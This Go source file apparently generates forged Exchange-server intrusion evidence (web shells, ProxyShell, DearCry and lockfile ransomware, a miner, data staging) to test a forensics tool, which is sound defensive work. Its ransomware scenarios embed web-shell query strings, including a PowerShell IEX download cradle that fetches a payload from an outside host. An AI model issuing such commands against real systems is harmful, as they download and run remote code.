package main

import (
	"slices"

	"github.com/athar-forensics/athar"
	"github.com/athar-forensics/athar/internal/forge"
)

// What intruders leave and do, whoever let them in.
var aftermathTales = []tale{
	{"a tool that calls itself a browser", happened, "persistence", athar.Accessed, "remote-shell-browser", nil, "15.1.2507.37", on(2024, 4, 3, 6, 0, 0), false, func(d *draw) {
		d.host.Deserialize(d.at, forge.Visitor{Address: d.who.Address, Agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"}, d.people[0], false)
	}},
	{"the scanner saw an exploit", failed, "persistence", athar.Attempted, "scanner-exchange-exploit", nil, "15.1.2507.37", on(2024, 4, 3, 6, 0, 0), false, func(d *draw) {
		d.logs().Stopped(d.at, "Behavior:Win32/SuspExchgSession.E")
	}},
	{"a page that was there", happened, "persistence", athar.Implanted, "", nil, cu19, on(2021, 3, 1, 6, 0, 0), false, func(d *draw) {
		d.host.Look(d.at, d.who, d.shell(), true)
	}},
	{"a task of his own", happened, "persistence", athar.Implanted, "autostart-place", nil, "15.1.2507.37", on(2024, 4, 3, 6, 0, 0), false, func(d *draw) { d.logs().OwnTask(d.at) }},
	{"a page that takes orders", happened, "persistence", athar.Controlled, "webshell-used", nil, "15.1.2507.37", on(2024, 4, 3, 6, 0, 0), false, func(d *draw) {
		for range 1 + d.IntN(6) {
			d.host.Command(d.at, d.who, d.shell(), 500+d.IntN(4000))
			d.at += athar.Time(5+d.IntN(600)) * athar.Second
		}
	}},
	{"an account that a shell made, given power", happened, "persistence", athar.Expanded, "account-given-power", nil, "15.1.2507.37", on(2024, 4, 3, 6, 0, 0), false, func(d *draw) {
		d.logs().OwnAccount(d.at, d.word(8), true)
	}},
	{"an archive among the pages is fetched", happened, "persistence", athar.Exfiltrated, "staged-fetched", nil, "15.1.2507.37", on(2024, 4, 3, 6, 0, 0), false, func(d *draw) {
		url := "/owa/auth/" + d.word(4) + ".png"
		d.host.Leave(url, d.at, slices.Concat([]byte("Rar!\x1a\x07\x01\x00"), make([]byte, 4000)))
		d.host.Hit(forge.Hit{At: d.at + athar.Hour, From: d.who, URL: url, Status: 200, Took: 9000 + d.IntN(60_000)})
	}},
	{"databases are removed", happened, "persistence", athar.Impacted, "database-removed", nil, "15.1.2507.37", on(2024, 4, 3, 6, 0, 0), false, func(d *draw) {
		end := d.host.Deserialize(d.at, forge.Visitor{Address: d.who.Address, Agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"}, d.people[0], false)
		d.host.Cmdlets(end+athar.Time(1+d.IntN(40))*athar.Minute, d.people[0], []string{"Remove-MailboxDatabase", "Identity", "DB0" + d.word(1), "Confirm", "False"})
	}},
	{"all that administrators and products do", alike, "persistence", athar.NoStage, "", nil, "15.1.2507.37", on(2024, 4, 3, 6, 0, 0), false, func(d *draw) {
		d.logs()
		d.host.Backup(d.from, d.from+3*athar.Day, 20+d.IntN(40))
		d.host.ExportMailbox(d.at)
		d.host.Sweep(d.at+athar.Hour, d.who)
		d.host.Cmdlets(
			d.at+2*athar.Hour, admin,
			[]string{"New-TransportRule", "Name", "archive", "BlindCopyTo", "archive@example.test"},
			[]string{"New-JournalRule", "Name", "journal", "JournalEmailAddress", "journal@example.test"},
			[]string{"Remove-MailboxDatabase", "Identity", "OLD01", "Confirm", "False"},
			[]string{"Add-MailboxPermission", "Identity", d.people[0], "User", d.people[1], "AccessRights", "FullAccess"},
		)
	}},

	{"an order that was taken", happened, "ransomware", athar.Controlled, "ransom-order-taken", []string{"persistence"}, cu19, on(2021, 3, 19, 6, 0, 0), false, func(d *draw) {
		d.host.CommandInQuery(d.at, d.who, d.shell(), "powershell+IEX(New-Object+Net.WebClient).downloadstring('http://p.estonine.com/p')")
	}},
	{"an order that met no page", failed, "ransomware", athar.Attempted, "ransom-order-sent", nil, cu19, on(2021, 3, 19, 6, 0, 0), false, func(d *draw) {
		d.host.Hit(forge.Hit{At: d.at, From: d.who, URL: "/aspnet_client/" + d.word(6) + ".aspx", Query: "c=http://cdn.chatcdn.net/p", Status: 404, Took: 20})
	}},
	{"ransomware that the scanner stopped", failed, "ransomware", athar.Attempted, "ransom-stopped", nil, cu19, on(2021, 3, 19, 6, 0, 0), false, func(d *draw) {
		d.logs().Stopped(d.at, "Ransom:Win32/DoejoCrypt.A")
	}},
	{"a miner's task", happened, "ransomware", athar.Implanted, "ransom-miner-task", nil, cu19, on(2021, 3, 19, 6, 0, 0), false, func(d *draw) { d.logs().LemonDuckTask(d.at) }},
	{"a miner at work", happened, "ransomware", athar.Impacted, "ransom-miner-started", nil, cu19, on(2021, 3, 19, 6, 0, 0), false, func(d *draw) { d.logs().Mines(d.at) }},
	{"files are encrypted and a note is left", happened, "ransomware", athar.Impacted, "ransom-note-written", nil, cu19, on(2021, 8, 24, 6, 0, 0), false, func(d *draw) {
		d.logs().Encrypted(d.at, `C:\Windows\Temp\`+d.word(6)+`.exe`, ".lockfile", "MAIL-LOCKFILE-README.hta", 3+d.IntN(30))
	}},
	{"files are encrypted without a note", happened, "ransomware", athar.Impacted, "ransom-files-encrypted", nil, cu19, on(2021, 3, 19, 6, 0, 0), false, func(d *draw) {
		d.logs().Encrypted(d.at, `C:\Windows\Temp\`+d.word(6)+`.exe`, ".CRYPT", "", 12+d.IntN(60))
	}},
	{"DearCry's service and a file of its making", happened, "ransomware", athar.Impacted, "ransom_dearcry_file", nil, cu19, on(2021, 3, 19, 6, 0, 0), false, func(d *draw) {
		d.logs().DearCry(d.at)
		d.host.Put(`C:\Users\Public\`+d.word(5)+".xlsx.CRYPT", d.at+athar.Minute, append([]byte("DEARCRY!\x00\x01\x00\x00"), []byte(d.word(600))...))
	}},
	{"the file system lists what was encrypted", happened, "ransomware", athar.Impacted, "mft-extorted", nil, cu19, on(2021, 8, 24, 6, 0, 0), false, func(d *draw) {
		listed := []forge.TableFile{{Path: "Users/Public/MAIL-LOCKFILE-README.hta", Born: d.at}}
		for range 12 + d.IntN(300) {
			listed = append(listed, forge.TableFile{Path: "Shares/" + d.word(8) + ".docx.lockfile", Born: d.at})
		}
		d.host.System(forge.State{At: d.from + 2*athar.Day, Table: listed})
	}},
	{"through an open door to the end", happened, "ransomware", athar.Impacted, "", []string{"proxyshell"}, mar, on(2021, 8, 17, 6, 0, 0), false, func(d *draw) {
		end := d.host.ProxyShell(d.proxyShell(false))
		d.logs().Encrypted(end+athar.Hour, `C:\Windows\Temp\`+d.word(6)+`.exe`, ".lockfile", "MAIL-LOCKFILE-README.hta", 20)
	}},
	{"people name files as they like", alike, "ransomware", athar.NoStage, "", nil, cu19, on(2021, 3, 19, 6, 0, 0), false, func(d *draw) {
		d.logs().Encrypted(d.at, `C:\Program Files\Example\export.exe`, ".crypt", "readme.txt", 1+d.IntN(50))
		d.host.Put(`C:\Users\Public\keys.crypt`, d.at, []byte("a container of somebody's own"))
		var listed []forge.TableFile
		for range 1 + d.IntN(50) {
			listed = append(listed, forge.TableFile{Path: "Vault/" + d.word(8) + ".bak.crypt", Born: d.from})
		}
		d.host.System(forge.State{At: d.from, Table: listed})
		d.host.Put(`C:\Users\Public\readme.txt`, d.at, []byte("Read me first."))
		d.host.Hit(forge.Hit{At: d.at, From: d.who, URL: "/owa/auth/logon.aspx", Query: "url=https%3a%2f%2fmail.example.test%2fowa", Status: 200, Took: 20})
	}},
}
